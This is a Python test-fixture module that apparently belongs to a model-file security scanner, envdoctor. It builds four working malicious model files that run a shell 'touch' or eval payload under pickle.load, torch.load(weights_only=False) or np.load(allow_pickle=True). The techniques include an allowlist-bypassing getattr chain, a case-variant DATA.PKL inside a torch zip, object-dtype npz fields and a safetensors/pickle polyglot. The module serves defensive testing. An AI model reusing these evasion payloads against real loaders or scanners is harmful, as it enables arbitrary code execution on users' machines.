"""The four attack files of issue 15, built for real: each one runs code under a real loader.

Every builder writes a file that makes ``marker`` exist when it is loaded the way its
docstring says (``pickle.load``, ``torch.load(weights_only=False)`` or
``np.load(allow_pickle=True)``); :func:`run_real_loader` does that in a child process, never
in the test process. The tests check both halves: the real loader runs the payload, and
envdoctor calls the file unsafe (SD190, exit 1).
"""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import torch

__all__ = [
    "namespace_getattr_chain",
    "case_variant_zip",
    "object_field_npz",
    "safetensors_pickle_polyglot",
    "run_real_loader",
]


def _unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + len(data).to_bytes(4, "little") + data


def namespace_getattr_chain(marker: Path) -> bytes:
    """A pickle naming only allowlisted globals that runs ``eval`` under ``pickle.load``.

    ``BUILD`` on the *class* ``argparse.Namespace`` with slot state ``{"__call__": getattr}``
    makes every ``Namespace`` instance a free ``getattr``; ``getattr`` itself is obtained as
    mmengine's ``HistoryBuffer`` statistics lookup does (``getattr(HistoryBuffer, "mean")``),
    which the old allowlist let through. Then ``ns(copyreg._reconstructor, "__globals__")``
    -> ``.get("__builtins__")`` -> ``.get("eval")`` -> ``eval(code)``.
    """
    code = f"open({str(marker)!r}, 'w').close()"
    memo = 0

    def put() -> bytes:
        nonlocal memo
        memo += 1
        return b"r" + (memo - 1).to_bytes(4, "little")

    def get(index: int) -> bytes:
        return b"j" + index.to_bytes(4, "little")

    out = [b"\x80\x02"]
    out += [b"cbuiltins\ngetattr\n", put()]  # 0: getattr
    out += [b"cmmengine.logging.history_buffer\nHistoryBuffer\n", put()]  # 1
    out += [get(0), b"(", get(1), _unicode("mean"), b"tR0"]  # the "harmless" lookup, discarded
    out += [b"cargparse\nNamespace\n", put()]  # 2: the class
    out += [get(2), b"N}", _unicode("__call__"), get(0), b"s\x86b0"]  # BUILD on the class
    out += [get(2), b")R", put()]  # 3: ns = Namespace()
    out += [get(3), b"(ccopyreg\n_reconstructor\n", _unicode("__globals__"), b"tR", put()]  # 4: globals
    out += [get(3), b"(", get(4), _unicode("get"), b"tR", put()]  # 5: globals.get
    out += [get(5), b"(", _unicode("__builtins__"), b"tR", put()]  # 6: builtins dict
    out += [get(3), b"(", get(6), _unicode("get"), b"tR", put()]  # 7: builtins.get
    out += [get(7), b"(", _unicode("eval"), b"tR", put()]  # 8: eval
    out += [get(8), b"(", _unicode(code), b"tR."]
    return b"".join(out)


def _payload_pickle(marker: Path) -> bytes:
    return b"cposix\nsystem\n(" + _unicode(f"touch {marker}") + b"tR."


def case_variant_zip(path: Path, marker: Path, *, payload_first: bool) -> None:
    """A real ``torch.save`` archive plus ``<folder>/DATA.PKL`` carrying a payload.

    torch's zip reader (miniz) matches names without regard to case, through a binary
    search over the sorted directory: for this archive it takes the ``DATA.PKL`` listed
    *after* ``data.pkl`` (``payload_first=False``), so ``torch.load(weights_only=False)`` runs
    it; which one wins depends on the other names, so envdoctor scans both either way.
    """
    clean = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, clean)
    with zipfile.ZipFile(clean) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    folder = members[0][0].filename.split("/", 1)[0]
    evil = (f"{folder}/DATA.PKL", _payload_pickle(marker))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
        ordered = [(info.filename, data) for info, data in members]
        index = next(i for i, (name, _) in enumerate(ordered) if name.endswith("/data.pkl"))
        ordered.insert(index if payload_first else index + 1, evil)
        for name, data in ordered:
            target.writestr(name, data)


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return os.system, (f"touch {self.marker}",)


def object_field_npz(path: Path, marker: Path, *, member: str, dtype: str, clean_side: int = 2) -> None:
    """An ``.npz`` whose member (any name) is an array with objects hidden in its dtype.

    ``dtype`` ``"field"``: a structured dtype with an object field; ``"subarray"``: an
    object sub-array. ``np.load(path, allow_pickle=True)[name]`` runs the payload. Beside it
    is a clean ``float32`` array of ``clean_side`` x ``clean_side``.
    """
    if dtype == "field":
        array = np.zeros(1, dtype=[("weight", "<f4"), ("meta", "O")])
        array[0]["meta"] = _Payload(marker)
    else:
        array = np.empty(1, dtype=np.dtype(("O", (2,))))
        array[0] = [_Payload(marker), None]
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, allow_pickle=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("clean.npy", _npy(np.zeros((clean_side, clean_side), np.float32)))
        archive.writestr(member, buffer.getvalue())


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array)
    return buffer.getvalue()


_PRINTABLE = [n for n in range(0x20, 0x7F) if n not in (0x22, 0x5C)]


def safetensors_pickle_polyglot(marker: Path) -> bytes:
    """A file that is valid safetensors *and* a pickle that runs a command.

    The 8-byte header length ``N B 04 00 00 00 00 00`` reads, as pickle opcodes, ``NONE``
    and ``BINBYTES`` of 4 bytes (which swallow ``00 00 { "``); the JSON key then holds a
    chain of ``SHORT_BINBYTES`` (``C`` + a printable length) that swallows the rest of the
    header, and the payload sits in the tensor data area. ``torch.load`` on a ``.bin``
    unpickles it (weights_only=False); safetensors reads one U8 tensor.
    """
    header_size = int.from_bytes(b"NB\x04\x00\x00\x00\x00\x00", "little")
    payload = _payload_pickle(marker)
    count = len(payload)
    tail = b'":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (count, count)
    # '{"' + hops + extra hop + "C" + chr(last) + tail + spaces == header_size; the last hop
    # covers tail and spaces exactly, so the payload starts right after the header.
    for extra in _PRINTABLE:
        rest = header_size - 2 - (extra + 2) - 2 - len(tail)
        hops, spaces = divmod(rest, 128)
        last = len(tail) + spaces
        if last in _PRINTABLE:
            break
    else:  # pragma: no cover - the arithmetic always finds one
        raise AssertionError("no layout fits")
    key = b"C~" + b"a" * 126
    body = b'{"' + key * hops + b"C" + bytes([extra]) + b"a" * extra + b"C" + bytes([last]) + tail + b" " * spaces
    assert len(body) == header_size
    return b"NB\x04\x00\x00\x00\x00\x00" + body + payload


_LOADERS = {
    "pickle": "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))",
    "torch": "import torch, sys\ntorch.load(sys.argv[1], weights_only=False)",
    "numpy": "import numpy as np, sys\nwith np.load(sys.argv[1], allow_pickle=True) as f:\n    f[sys.argv[2]]",
}


def run_real_loader(loader: str, path: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    """Load ``path`` with the real library in a child process (errors after the payload are fine)."""
    return subprocess.run(
        [sys.executable, "-c", _LOADERS[loader], str(path), *extra],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def dumps_clean() -> bytes:
    return pickle.dumps({"w": 1})
